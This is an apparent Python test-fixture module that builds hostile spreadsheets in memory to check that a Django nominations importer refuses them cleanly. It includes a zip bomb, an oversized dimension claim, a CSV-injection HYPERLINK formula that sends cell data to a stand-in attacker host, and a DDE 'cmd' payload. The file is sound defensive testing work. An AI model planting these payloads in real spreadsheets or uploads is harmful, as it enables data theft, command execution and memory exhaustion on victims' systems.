"""Small hostile spreadsheets, built in memory, for the tests of every importer.

Each builder returns ``(filename, bytes)``; ``upload(...)`` wraps one as an uploaded file.
``HOSTILE`` names them all, for a parametrised test ("every hostile file, every importer"):

    from talent_exchange.nominations.tests.hostile_files import HOSTILE, upload

    @pytest.mark.parametrize("name", sorted(HOSTILE))
    def test_importer_survives(name):
        filename, data = HOSTILE[name]()
        ...  # the importer refuses it with a reason, or reports rows; never a traceback

What an importer must do with each (the nominations importer does, see its tests):
- ``huge_dimension``: a 2-row workbook whose <dimension> claims A1:XFD1048576 — refuse
  without padding rows to the claim (memory stays small);
- ``zip_bomb``: a workbook whose sheet unpacks to 64 MB — refuse before unpacking;
- ``formula``: a workbook with formulas in the cells — take no formula as a value;
- ``long_cell_csv``: a CSV with a 200,000-character cell — refuse with line and column;
- ``not_utf8_csv``: a Windows-1252 CSV — refuse, saying the line, and to save as UTF-8;
- ``nul_csv``: a CSV holding a NUL byte — refuse cleanly;
- ``formula_text_csv``: CSV cells beginning with = + - @ — text, never evaluated;
- ``not_a_workbook``: bytes named .xlsx that are not a zip — refuse cleanly.
"""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable, Sequence

from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook

HEADER = ("work_email", "rationale", "backfill_plan", "endorser_1", "endorser_2")
ROW = ("nominee@example.org", "High potential", "Acting deputy", "a@example.org", "b@example.org")
SHEET = "xl/worksheets/sheet1.xml"


def upload(filename: str, data: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(filename, data)


def xlsx(rows: Sequence[Sequence[object]] = (HEADER, ROW)) -> bytes:
    """A plain workbook; strings beginning with "=" are written as formulas (openpyxl's
    convention), with no cached value."""
    book = Workbook()
    for row in rows:
        book.active.append(list(row))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _rewrite_sheet(data: bytes, change: Callable[[bytes], bytes]) -> bytes:
    """The same workbook with its first sheet's XML changed."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for entry in source.infolist():
            content = source.read(entry.filename)
            if entry.filename == SHEET:
                content = change(content)
            target.writestr(entry.filename, content)
    return out.getvalue()


def xlsx_declaring(
    dimension: str = "A1:XFD1048576", rows: Sequence[Sequence[object]] = (HEADER, ROW)
) -> bytes:
    """A tiny workbook whose <dimension> tag claims ``dimension`` (by default the largest
    sheet Excel allows): a reader that pads rows to the claim runs out of memory."""

    def claim(xml: bytes) -> bytes:
        return re.sub(rb'<dimension ref="[^"]*"', f'<dimension ref="{dimension}"'.encode(), xml)

    return _rewrite_sheet(xlsx(rows), claim)


def xlsx_bomb(unpacked_mb: int = 64) -> bytes:
    """A workbook whose sheet XML unpacks to ``unpacked_mb`` MB of whitespace (valid XML)
    from a few hundred kilobytes."""

    def pad(xml: bytes) -> bytes:
        return xml.replace(b"<sheetData>", b"<sheetData>" + b" " * (unpacked_mb * 1024 * 1024))

    return _rewrite_sheet(xlsx(), pad)


def xlsx_with_formulas() -> bytes:
    return xlsx(
        [
            HEADER,
            (
                '=HYPERLINK("https://attacker.example/?x="&A1,"Click")',
                "=1+1",
                "=cmd|' /C calc'!A0",
                ROW[3],
                ROW[4],
            ),
        ]
    )


def csv(rows: Sequence[Sequence[str]] = (HEADER, ROW), *, encoding: str = "utf-8") -> bytes:
    text = "\r\n".join(",".join(f'"{c}"' if "," in c else c for c in row) for row in rows)
    return text.encode(encoding)


def csv_with_long_cell(length: int = 200_000) -> bytes:
    """The second row's rationale (column B) holds ``length`` characters."""
    return csv([HEADER, (ROW[0], "x" * length, *ROW[2:])])


def csv_not_utf8() -> bytes:
    """Windows-1252, as Excel's plain "CSV" saves it: the é of line 2 is not UTF-8."""
    return csv([HEADER, (ROW[0], "Dossier à réviser", *ROW[2:])], encoding="cp1252")


def csv_with_nul() -> bytes:
    return csv([HEADER, (ROW[0], "before\x00after", *ROW[2:])])


def csv_with_formula_text() -> bytes:
    return csv([HEADER, (ROW[0], "=1+1", "+SUM(A1)", "-2+3", "@SUM(A1)")])


HOSTILE: dict[str, Callable[[], tuple[str, bytes]]] = {
    "huge_dimension": lambda: ("nominees.xlsx", xlsx_declaring()),
    "zip_bomb": lambda: ("nominees.xlsx", xlsx_bomb()),
    "formula": lambda: ("nominees.xlsx", xlsx_with_formulas()),
    "long_cell_csv": lambda: ("nominees.csv", csv_with_long_cell()),
    "not_utf8_csv": lambda: ("nominees.csv", csv_not_utf8()),
    "nul_csv": lambda: ("nominees.csv", csv_with_nul()),
    "formula_text_csv": lambda: ("nominees.csv", csv_with_formula_text()),
    "not_a_workbook": lambda: ("nominees.xlsx", b"PK\x03\x04 this is not a zip archive"),
}
